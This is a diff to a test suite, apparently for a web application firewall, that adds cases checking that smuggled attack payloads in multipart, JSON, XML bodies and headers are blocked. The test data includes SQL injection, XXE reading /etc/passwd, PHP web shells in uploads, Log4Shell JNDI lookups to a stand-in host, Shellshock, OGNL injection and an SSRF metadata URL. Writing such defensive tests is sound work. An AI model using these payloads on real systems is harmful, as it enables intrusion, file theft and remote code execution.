@@ -192,6 +192,154 @@ describe('what stands where nothing is expected', () => {
   it('a header after a first line', () => blocked(send('/?a=b%0d%0aX-Injected:%201')));
 });
 
+describe('what servers read otherwise than a request says', () => {
+  const attack = "id=1' union select password from users--";
+  const json = '{"id":"1\' union select password from users--"}';
+  const xxe = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
+  const part = (headers: string, content: string) => `--b\r\n${headers}\r\n\r\n${content}\r\n`;
+  const field = 'Content-Disposition: form-data; name="a"';
+  const multi = 'multipart/form-data; boundary=b';
+  const rows: [name: string, type: string, body: string][] = [
+    ['a form that is called multipart', 'multipart/form-data; boundary=zz', attack],
+    ['JSON that is called multipart', 'multipart/form-data; boundary=zz', json],
+    ['XML that is called multipart', 'multipart/form-data; boundary=zz', xxe],
+    [
+      'a type that names multipart in a parameter',
+      'application/x-www-form-urlencoded; x="multipart/"; boundary=zz',
+      attack,
+    ],
+    [
+      'one of two boundaries',
+      'multipart/form-data; boundary=zz; boundary=b',
+      part(field, "x' or 'a'='a") + '--b--',
+    ],
+    [
+      'a boundary of another name',
+      'multipart/form-data; x-boundary=zz; boundary=b',
+      part(field, "x' or 'a'='a") + '--b--',
+    ],
+    [
+      'a part behind many',
+      multi,
+      part(field, 'x').repeat(250) + part(field, "1' union select 1,2 from users--") + '--b--',
+    ],
+    [
+      'a field whose type names a file',
+      multi,
+      part(`${field}\r\nContent-Type: text/plain; filename=a`, "x' or 'a'='a") + '--b--',
+    ],
+    ['what stands before the first part', multi, `${attack}\r\n${part(field, 'x')}--b--`],
+    ['a header of a part', multi, part(`${field}\r\nX-A: \${jndi:ldap://x.example/a}`, 'x') + '--b--'],
+    [
+      'a second name of a file',
+      multi,
+      part('Content-Disposition: form-data; name=f; filename="a.jpg"; filename="shell.php"', 'x') + '--b--',
+    ],
+    [
+      'a file name with a blank',
+      multi,
+      part('Content-Disposition: form-data; name=f; filename ="shell.php"', 'x') + '--b--',
+    ],
+    [
+      'a page deep in a file',
+      multi,
+      part(
+        'Content-Disposition: form-data; name=f; filename=a.jpg',
+        `${'x'.repeat(6_000)}<?php system($_GET[1]);?>`,
+      ) + '--b--',
+    ],
+    [
+      'an entity in a picture',
+      multi,
+      part('Content-Disposition: form-data; name=f; filename=a.svg', `<?xml version="1.0"?>${xxe}`) + '--b--',
+    ],
+    [
+      'an entity behind a long remark',
+      'application/xml',
+      `<?xml version="1.0"?><!--${'A'.repeat(5_000)}-->${xxe}`,
+    ],
+    ['an instruction in XML', 'application/xml', '<?xml version="1.0"?><a><?php system($_GET[1]); ?></a>'],
+    [
+      'a text that a remark parts',
+      'application/xml',
+      "<a>1' union sel<!-- x -->ect password from users--</a>",
+    ],
+    ['JSON with a tab before its colon', 'application/json', '{"a"\t:"x\' or \'a\'=\'a"}'],
+    [
+      'JSON behind line ends',
+      'application/json',
+      '\r\n\ufeff {"a":"x\' or \'a\'=\'a"}'.replace('\ufeff', ''),
+    ],
+    ['JSON behind a byte order mark', 'application/json', '\ufeff{"a":";id"}'],
+    [
+      'JSON behind many values',
+      'application/json',
+      JSON.stringify([...Array<number>(2_100).fill(0).map(String), "1' union select a from users--"]),
+    ],
+    ['a form that opens as JSON', 'application/x-www-form-urlencoded', `{&${attack}`],
+    [
+      'a field behind many',
+      'application/x-www-form-urlencoded',
+      `${'a=1&'.repeat(900)}url=http://169.254.169.254/`,
+    ],
+  ];
+  it.each(rows)('hides nothing: %s', (_, type, body) => {
+    const verdict = send('/', { 'content-type': type, 'content-length': '9' }, body);
+    expect(verdict.decided, explain(verdict)).toBe('block');
+  });
+
+  const headers: [name: string, value: string][] = [
+    ['x-forwarded-for', "1.2.3.4' or '1'='1"],
+    ['x-forwarded-for', '${jndi:ldap://x.example/a}'],
+    ['content-type', "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"],
+    ['accept', '${jndi:ldap://x.example/a}'],
+    ['accept-language', '../../../../etc/passwd'],
+    ['if-none-match', '() { :; }; /bin/cat /etc/passwd'],
+    ['origin', 'https://x.example/<script>alert(1)</script>'],
+    ['sec-ch-ua-platform', "x' union select 1,2 from users--"],
+    ['cache-control', '${jndi:ldap://x.example/a}'],
+  ];
+  it.each(headers)('an attack in %s is one: %s', (name, value) => {
+    const verdict = send('/', { [name]: value });
+    expect(verdict.decided, explain(verdict)).not.toBe('pass');
+  });
+
+  it.each([
+    ['user-agent', 'sqlmap/1.7'],
+    ['user-agent', '${jndi:ldap://x.example/a}'],
+    ['referer', "https://x.example/?q=1' union select 1,2 from users--"],
+  ])('a second %s hides no first: %s', (name, value) => {
+    const usual = Object.entries(chrome).map(([each, text]) => ({ name: each, value: text }));
+    for (const order of [(list: object[]) => list, (list: object[]) => [...list].reverse()]) {
+      const list = order([
+        ...usual,
+        { name: 'referer', value: 'https://a/' },
+        { name, value },
+      ]) as typeof usual;
+      const verdict = judge(
+        { method: 'GET', target: '/', host: 'a', scheme: 'http', remote_ip: '192.0.2.1', headers: list },
+        '',
+      );
+      expect(verdict.decided, explain(verdict)).not.toBe('pass');
+    }
+  });
+
+  it('a body that no header tells of is waited for', () => {
+    const head = { method: 'POST', target: '/', host: 'a', scheme: 'http', remote_ip: '192.0.2.1' } as const;
+    const list = Object.entries(chrome).map(([name, value]) => ({ name, value }));
+    const form = { name: 'content-type', value: 'application/x-www-form-urlencoded' };
+    expect(judge({ ...head, headers: [...list, form], unannounced_body: true }, attack).decided).toBe(
+      'block',
+    );
+  });
+
+  it('a link of the same site on another port brings no session of another', () => {
+    const extra = { referer: 'http://a:9080/shop/' };
+    expect(send('/login?sessionid=5', extra).decided).toBe('pass');
+    expect(send('/login?sessionid=5', { referer: 'http://b:9080?x=/' }).decided).toBe('block');
+  });
+});
+
 describe('a body of more odd values than are looked at one by one', () => {
   const json = { 'content-type': 'application/json', 'content-length': '1' };
   const odd = Array.from({ length: 1_900 }, (_, i) => `a'b &#39; \\u0041 (c) <d e${i}> ; f%2527`);
